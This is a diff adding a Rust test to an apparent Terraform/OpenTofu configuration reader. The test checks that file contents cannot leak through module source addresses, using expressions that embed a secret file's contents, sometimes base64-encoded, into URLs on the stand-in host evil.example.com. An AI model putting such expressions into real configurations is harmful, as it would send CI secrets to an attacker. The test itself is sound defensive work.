@@ -134,6 +134,30 @@ fn reading_files_ends() {
     assert!(found[0].contains("too long") || found[0].contains("too deeply"), "{found:?}");
 }
 
+/// A file may be a secret that CI put beside the configuration of a hostile pull request.
+#[test]
+fn what_files_say_is_not_sent_to_other_hosts() {
+    let source = |expression: &str| format!("module \"m\" {{\n  source = \"{expression}\"\n}}\n");
+    let local = "locals {\n  secret = file(\"name.txt\")\n  host = \"evil.example.com\"\n}\n";
+    for expression in [
+        "git::https://evil.example.com/${file(\"name.txt\")}.git",
+        "git::https://${local.host}/${local.secret}.git",
+        "https://evil.example.com/a.zip?${base64encode(local.secret)}",
+        "evil.example.com/${local.secret}/b/c",
+        "git::https://evil.example.com/${fileexists(\"name.txt\") ? \"a\" : \"b\"}.git",
+        "git::https://evil.example.com/${length(fileset(\"conf\", \"*.json\"))}.git",
+    ] {
+        let main = local.to_owned() + &source(expression);
+        let files: Vec<_> = [("main.tf", main.as_str())].iter().chain(&FILES).copied().collect();
+        let errors = texts(&read(directory(&files).path(), &options(Dialect::Tofu)).unwrap_err());
+        assert!(errors.len() == 1 && errors[0].contains("is not sent to other hosts"), "{expression}: {errors:?}");
+    }
+    // Without a file the address is known, and its module is missing.
+    let main = local.to_owned() + &source("git::https://${local.host}/a.git");
+    let errors = texts(&read(directory(&[("main.tf", &main)]).path(), &options(Dialect::Tofu)).unwrap_err());
+    assert!(errors[0].contains("is not installed"), "{errors:?}");
+}
+
 #[test]
 fn paths_of_called_modules_are_relative_to_the_root_module() {
     let call = |name: &str, source: &str| format!("module \"{name}\" {{\n  source = \"{source}\"\n}}\n");
